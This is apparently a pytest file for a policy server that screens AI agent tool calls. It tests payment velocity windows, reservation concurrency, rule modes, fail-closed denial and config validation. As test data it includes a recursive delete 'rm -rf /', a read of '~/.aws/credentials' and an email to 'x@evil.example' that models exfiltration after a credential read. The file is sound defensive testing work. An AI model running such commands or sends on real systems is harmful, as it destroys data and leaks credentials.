"""Velocity windows, the concurrent-reservation race, modes, failures and config validation."""

from __future__ import annotations

import datetime
import threading

import pydantic
import pytest

from inherence_policy_server.rules import (
    RULE_NAMES,
    Call,
    Category,
    InMemoryLedger,
    RulesConfig,
    evaluate,
)

NOW = datetime.datetime(2025, 6, 2, 12, 0, tzinfo=datetime.timezone.utc)
PAYEES = RulesConfig.model_validate({"organisation": {"known_payees": ["acme-payroll"]}})


def _payment(dollars: int) -> Call:
    return Call("send_payment", Category.PAYMENT, {"amount": dollars, "recipient": "acme-payroll"}, session_id="s")


def test_hour_window_frees_up_after_an_hour() -> None:
    ledger = InMemoryLedger()
    for minute in range(2):
        assert (
            evaluate(_payment(900), PAYEES, ledger, NOW + datetime.timedelta(minutes=minute)).verdict.value == "allow"
        )
    third = evaluate(_payment(900), PAYEES, ledger, NOW + datetime.timedelta(minutes=2))
    assert third.failed_clauses == ("financial_drain.velocity_hour",)
    later = evaluate(_payment(900), PAYEES, ledger, NOW + datetime.timedelta(minutes=61))
    assert later.verdict.value == "allow"


def test_day_window_counts_transfers_across_hours() -> None:
    ledger = InMemoryLedger()
    for hour in range(5):
        moment = NOW + datetime.timedelta(hours=hour)
        assert evaluate(_payment(999), PAYEES, ledger, moment).verdict.value == "allow"
        assert evaluate(_payment(1), PAYEES, ledger, moment).verdict.value == "allow"
    sixth = evaluate(_payment(999), PAYEES, ledger, NOW + datetime.timedelta(hours=5))
    assert sixth.failed_clauses == ("financial_drain.velocity_day",)
    assert evaluate(_payment(999), PAYEES, ledger, NOW + datetime.timedelta(days=1, hours=1)).verdict.value == "allow"


def test_denied_transfer_is_not_recorded() -> None:
    ledger = InMemoryLedger()
    assert evaluate(_payment(15_000), PAYEES, ledger, NOW).verdict.value == "deny"
    assert ledger.window_totals("-:default", NOW).hour_count == 0


def test_concurrent_reservations_never_both_pass() -> None:
    ledger = InMemoryLedger()
    limits = {"hour_cents": 100_000, "day_cents": 100_000, "week_cents": 100_000,
              "hour_count": 1000, "day_count": 1000, "week_count": 1000}  # fmt: skip
    barrier = threading.Barrier(16)
    results: list[bool] = []
    lock = threading.Lock()

    def reserve() -> None:
        barrier.wait()
        for _ in range(50):
            outcome = ledger.reserve_transfer("acct", "payee", 1_000, NOW, limits) is not None
            with lock:
                results.append(outcome)

    threads = [threading.Thread(target=reserve) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results.count(True) == 100
    assert ledger.window_totals("acct", NOW).hour_cents == 100_000


def test_concurrent_engine_calls_respect_the_window() -> None:
    ledger = InMemoryLedger()
    barrier = threading.Barrier(8)
    verdicts: list[str] = []

    def pay() -> None:
        barrier.wait()
        verdicts.append(evaluate(_payment(900), PAYEES, ledger, NOW).verdict.value)

    threads = [threading.Thread(target=pay) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert verdicts.count("allow") == 2


@pytest.mark.parametrize(("mode", "verdict"), [("enforce", "deny"), ("log", "allow_with_log"), ("off", "allow")])
def test_modes(mode: str, verdict: str) -> None:
    config = RulesConfig.model_validate({"mass_destruction": {"mode": mode}})
    call = Call("run", Category.SHELL_EXEC, {"command": "rm -rf /"})
    evaluation = evaluate(call, config, InMemoryLedger(), NOW)
    assert evaluation.verdict.value == verdict
    assert ("mass_destruction.recursive_delete" in evaluation.failed_clauses) is (mode != "off")


def test_logged_credential_read_still_arms_exfiltration() -> None:
    config = RulesConfig.model_validate({"credential_access": {"mode": "log"}})
    ledger = InMemoryLedger()
    read = Call("read_file", Category.FILE_READ, {"path": "~/.aws/credentials"}, session_id="s")
    assert evaluate(read, config, ledger, NOW).verdict.value == "allow_with_log"
    send = Call("send_email", Category.OUTBOUND_SEND, {"to": "x@evil.example", "body": "hi"}, session_id="s")
    # No result of the read was reported, so nothing says what the send carries: a person confirms.
    evaluation = evaluate(send, config, ledger, NOW)
    assert evaluation.verdict.value == "confirm"
    assert evaluation.failed_clauses == ("unauthorized_exfiltration.send_after_credential_read",)
    other = Call("send_email", Category.OUTBOUND_SEND, {"to": "x@evil.example", "body": "hi"}, session_id="t")
    assert evaluate(other, config, ledger, NOW).verdict.value == "allow"


class BrokenLedger(InMemoryLedger):
    """Storage that fails: a rule depending on it must deny, never allow."""

    def reserve_transfer(self, *args: object, **kwargs: object) -> None:  # type: ignore[override]
        raise RuntimeError("storage unavailable")


def test_a_failing_rule_denies() -> None:
    evaluation = evaluate(_payment(5), PAYEES, BrokenLedger(), NOW)
    assert evaluation.verdict.value == "deny"
    assert evaluation.failed_clauses == ("financial_drain.analysis_failed",)


def _nested(depth: int) -> list[object]:
    node: list[object] = []
    for _ in range(depth):
        node = [node]
    return node


@pytest.mark.parametrize(
    "arguments",
    [
        {"a": "x" * 2_000_000},
        {"list": list(range(30_000))},
        {"deep": _nested(60)},
    ],
)
def test_arguments_beyond_limits_are_denied(arguments: dict[str, object]) -> None:
    evaluation = evaluate(Call("t", Category.READ_ONLY, arguments), RulesConfig(), InMemoryLedger(), NOW)
    assert evaluation.failed_clauses == ("arguments.beyond_limits",)


@pytest.mark.parametrize(
    ("data", "location"),
    [
        ({"financial_drain": {"per_call_limit_cents": -1}}, ("financial_drain", "per_call_limit_cents")),
        ({"financial_drain": {"per_cal_limit_cents": 1}}, ("financial_drain", "per_cal_limit_cents")),
        ({"lateral_pivot": {"mode": "warn"}}, ("lateral_pivot", "mode")),
        ({"organisation": {"email_domain": ["acme.com"]}}, ("organisation", "email_domain")),
        ({"financial_drain": {"hour_limit_cents": 10, "day_limit_cents": 5}}, ("financial_drain",)),
    ],
)
def test_config_errors_name_the_field(data: dict[str, object], location: tuple[str, ...]) -> None:
    with pytest.raises(pydantic.ValidationError) as caught:
        RulesConfig.model_validate(data)
    assert caught.value.errors()[0]["loc"] == location


def test_describe_lists_every_rule_with_mode_and_thresholds() -> None:
    text = RulesConfig.model_validate({"identity_escalation": {"mode": "off"}}).describe()
    for name in RULE_NAMES:
        assert f"{name}: " in text
    assert "identity_escalation: off" in text
    assert "per_call_limit_cents = 100000" in text
